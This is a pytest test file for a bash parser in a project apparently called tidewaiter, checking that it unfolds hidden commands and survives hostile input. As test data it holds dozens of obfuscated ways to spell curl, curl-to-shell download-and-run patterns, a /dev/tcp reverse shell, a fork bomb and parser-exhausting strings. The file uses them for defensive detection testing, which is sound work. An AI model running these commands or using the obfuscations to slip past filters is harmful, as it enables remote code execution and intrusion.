"""Unix shell texts as invocations: unfolding, streams, and what happens to broken or hostile text."""

from __future__ import annotations

import time

import pytest

from tidewaiter.reading import bash
from tidewaiter.reading.budget import Budget
from tidewaiter.reading.invocation import Invocation, Script, Word

URL = "http://192.0.2.1/a"


def read(text: str) -> Script:
    return bash.parse(text, Budget())


def commands(text: str) -> list[list[str]]:
    return [[word.text for word in invocation.argv] for invocation in read(text)]


def last(text: str) -> Invocation:
    return read(text).invocations[-1]


CURL = ["curl", URL]

HIDDEN = [
    f"c''url {URL}",
    f'"c"ur"l" {URL}',
    f"c\\ur\\l {URL}",
    f"$'\\x63url' {URL}",
    f"$'\\143\\165rl' {URL}",
    f"$'\\u0063url' {URL}",
    f"x=cu;y=rl;$x$y {URL}",
    f"x=cu; ${{x}}rl {URL}",
    f"curl${{IFS}}{URL}",
    f"curl$IFS'{URL}'",
    f"{{curl,{URL}}}",
    f"cu$@rl {URL}",
    f"cu${{unset}}rl {URL}",
    f"$(echo Y3VybA==|base64 -d) {URL}",
    f"`echo lruc | rev` {URL}",
    f"$(printf '\\x63\\x75rl') {URL}",
    f"$(echo 6375726c | xxd -r -p) {URL}",
    f"$(tr a-z n-za-m <<< phey) {URL}",
    f"$(which curl) {URL}",
    f'eval "cu""rl {URL}"',
    f'c=(cu rl "{URL}"); "${{c[0]}}${{c[1]}}" "${{c[2]}}"',
    f'set -- curl {URL}; "$@"',
    f"f() {{ curl $1; }}; f {URL}",
    f"function f {{ curl {URL}; }}",
    f"alias g=curl; g {URL}",
    f"trap 'curl {URL}' EXIT",
    f"printf -v c '\\143url'; $c {URL}",
    f"export C=curl; $C {URL}",
    f"read c <<< curl; $c {URL}",
    f"IFS=,; c='curl,{URL}'; $c",
    f"x=lucurl; ${{x#lu}} {URL}",
    f"x=CURL; ${{x,,}} {URL}",
    f"x=cxurl; ${{x/x/}} {URL}",
    f"x=xxcurlx; ${{x:2:4}} {URL}",
    f"a=curl; b=a; ${{!b}} {URL}",
    f"${{nothing:-curl}} {URL}",
    f"! time command curl {URL}",
    f"exec curl {URL}",
    f"X=1 curl {URL} # comment | sh",
    f"curl \\\n  {URL}",
]


@pytest.mark.parametrize("text", HIDDEN)
def test_a_hidden_command_is_unfolded(text: str) -> None:
    assert CURL in commands(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
        ("while a; do b; done; until c; do d; done", ["a", "b", "c", "d"]),
        ("case $x in p) a;; q|r) b;; *) c; esac; d", ["a", "b", "c", "d"]),
        ("for i in 1 2; do a$i; done", ["a1", "a2"]),
        ("for ((i=0;i<3;i++)); do a; done; ((i++)); b", ["a", "b"]),
        ("(a; (b)) && { c; } || d &", ["a", "b", "c", "d"]),
        ("[[ -f x && y < z ]] && a", ["[[", "a"]),
        ("a & b", ["a", "b"]),
        ("x=$(a $(b)); c", ["b", "a", "c"]),
    ],
)
def test_every_branch_is_read_in_order(text: str, expected: list[str]) -> None:
    script = read(text)
    assert [invocation.program for invocation in script] == expected
    assert script.complete


def test_words_stay_as_spelled_where_they_cannot_be_known() -> None:
    invocation = last('curl -o ~/x "$HOME/$1" *.sh ${y}')
    assert invocation.args == ("-o", "~/x", "$HOME/$1", "*.sh", "${y}")
    assert [word.known for word in invocation.argv] == [True, True, True, False, True, False]


def test_parameter_expansions() -> None:
    text = "x=abcdef; p ${x:0:3} ${x//b/Z} ${x#ab} ${x%%c*} ${x##*c} ${u:-d} ${x^^} ${#x} ${x: -2} ${x/%ef/Q} $((1+2*3))"
    assert last(text).args == ("abc", "aZcdef", "cdef", "ab", "def", "d", "ABCDEF", "6", "ef", "abcdQ", "7")


def test_a_query_keeps_its_ampersands_where_the_record_lost_the_quotes() -> None:
    assert commands("curl http://h.test/?a=1&b=2 -o x") == [["curl", "http://h.test/?a=1&b=2", "-o", "x"]]
    assert commands("curl http://h.test/a & b") == [["curl", "http://h.test/a"], ["b"]]


def test_pipes_connect_outputs_to_inputs() -> None:
    first, second, third = read("{ a; b; } | sh")
    assert third.stdin == (first, second)
    assert read("a > f | sh").invocations[1].stdin == ()
    left, right = read("a 2>&1 |& sh")
    assert right.stdin == (left,)


def test_substitutions_are_content() -> None:
    fetch, shell = read(f'bash -c "$(curl {URL})"')
    assert shell.argv[2].content == (fetch,)
    fetch, shell = read(f"bash <(curl {URL})")
    assert shell.argv[1].content == (fetch,)
    fetch, run = read(f'x=$(curl {URL}); eval "$x"')
    assert fetch.assigned == "x"
    assert run.argv[1].content == (fetch,)
    fetch, shell = read(f'bash <<< "$(curl {URL})"')
    assert (shell.stdin, shell.stdin_text) == ((fetch,), None)
    fetch, shell = read(f"sh < <(curl {URL})")
    assert (shell.stdin, shell.stdin_file) == ((fetch,), None)


def test_output_substitution_reads_the_command() -> None:
    fetch, shell, tee = read(f"curl {URL} | tee >(sh) > /dev/null")
    assert shell.stdin == (tee,)
    assert tee.stdin == (fetch,)


def test_content_flows_through_read() -> None:
    fetch, _, shell = read(f'curl {URL} | while read -r l; do sh -c "$l"; done')
    assert shell.argv[2].content == (fetch,)


def test_redirections() -> None:
    one = last("a 2>/dev/null >> f")
    assert one.stdout is not None
    assert (one.stdout.text, one.append) == ("f", True)
    both = last("bash -i >& /dev/tcp/192.0.2.1/1 0>&1")
    assert both.stdout is not None
    assert both.stdin_file is not None
    assert both.stdout.text == both.stdin_file.text == "/dev/tcp/192.0.2.1/1"
    group = read("(a; b) > f")
    assert [invocation.stdout and invocation.stdout.text for invocation in group] == ["f", "f"]


def test_descriptors_are_followed() -> None:
    send, receive = read("exec 3<>/dev/tcp/192.0.2.1/80; printf x >&3; cat <&3 > f")
    assert send.stdout is not None
    assert receive.stdin_file is not None
    assert receive.stdout is not None
    assert send.stdout.text == receive.stdin_file.text == "/dev/tcp/192.0.2.1/80"
    assert receive.stdout.text == "f"


def test_here_documents() -> None:
    assert read("cat <<'E' | sh\n$x it's\nE\n").invocations[1].stdin_text == "$x it's\n"
    assert last("x=1\nsh <<E\necho $x\nE").stdin_text == "echo 1\n"
    assert last("sh <<-E\n\techo a\n\tE\n").stdin_text == "echo a\n"
    assert last("sh <<< 'a b'").stdin_text == "a b\n"
    fetch, shell = read(f"sh <<E\n$(curl {URL})\nE")
    assert shell.stdin == (fetch,)


def test_variables_come_in_and_go_out() -> None:
    script = bash.parse("$P x; y=2", Budget(), {"P": Word("curl")})
    assert script.invocations[0].program == "curl"
    assert script.variables["y"].text == "2"


def test_an_exact_argument_vector_is_not_read_as_text() -> None:
    (invocation,) = bash.from_argv(["sh", "-c", "a | b; $c"])
    assert invocation.args == ("-c", "a | b; $c")
    assert not bash.from_argv([]).invocations


@pytest.mark.parametrize("text", [f"curl '{URL}", f"fi; curl {URL}; done", f"curl {URL} ) |", f"curl {URL}; if x; then"])
def test_an_error_costs_what_is_broken(text: str) -> None:
    script = read(text)
    assert CURL in [[word.text for word in invocation.argv] for invocation in script]
    assert not script.complete


SIZE = 32_768
HOSTILE = {
    "pipes": "a|" * (SIZE // 2),
    "quotes": "'\"" * (SIZE // 2),
    "nested": '"$(' * (SIZE // 3),
    "parentheses": "(" * SIZE,
    "braces": "{a," * (SIZE // 3),
    "products": "{a,b}" * (SIZE // 5),
    "redirects": "<" * SIZE,
    "here-documents": "cat <<A " * (SIZE // 8),
    "parameters": '"${a:-' * (SIZE // 6),
    "arrays": "a=(" * (SIZE // 3),
    "patterns": "x=" + "a" * 8_000 + ";${x//*a*b/c}${x%%*a*b}",
    "doubling": "a0=xxxxxxxxxx;" + "".join(f"a{n + 1}=$a{n}$a{n};" for n in range(60)) + "$a60",
    "cycle": "a=$b$b; b=$a$a; $a",
    "evals": 'a="b;eval \\$a;eval \\$a";eval $a',
    "fork bomb": ":(){ :|:& };:",
    "loops": "for a in 1 2 3 4 5 6 7 8 9; do " * 8 + "x;" + "done;" * 8,
    "functions": "".join(f"f{n}(){{ f{n + 1};f{n + 1};f{n + 1}; }};" for n in range(12)) + "f0",
    "megabyte": "x" * 1_000_000,
    "backticks": "`a" * (SIZE // 2),
    "dollars": "$" * SIZE,
    "controls": "\x00\u202e\udcff curl \x1b" * 2_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_gets_a_bounded_answer(name: str) -> None:
    budget = Budget()
    began = time.process_time()
    script = bash.parse(HOSTILE[name], budget)
    assert time.process_time() - began < 1.0  # the bound is 0.05; room for slow and busy machines
    assert budget.depth_left == 12
    assert len(script.invocations) < 20_000


def test_junk_at_the_end_does_not_hide_the_beginning() -> None:
    assert commands(f"curl {URL};" + '"$(' * 10_000)[0] == CURL


def test_a_long_text_is_cut_and_says_so() -> None:
    budget = Budget()
    script = bash.parse(f"curl {URL};" + " " * 70_000 + "b", budget)
    assert [invocation.program for invocation in script] == ["curl"]
    assert budget.limits
    assert not script.complete
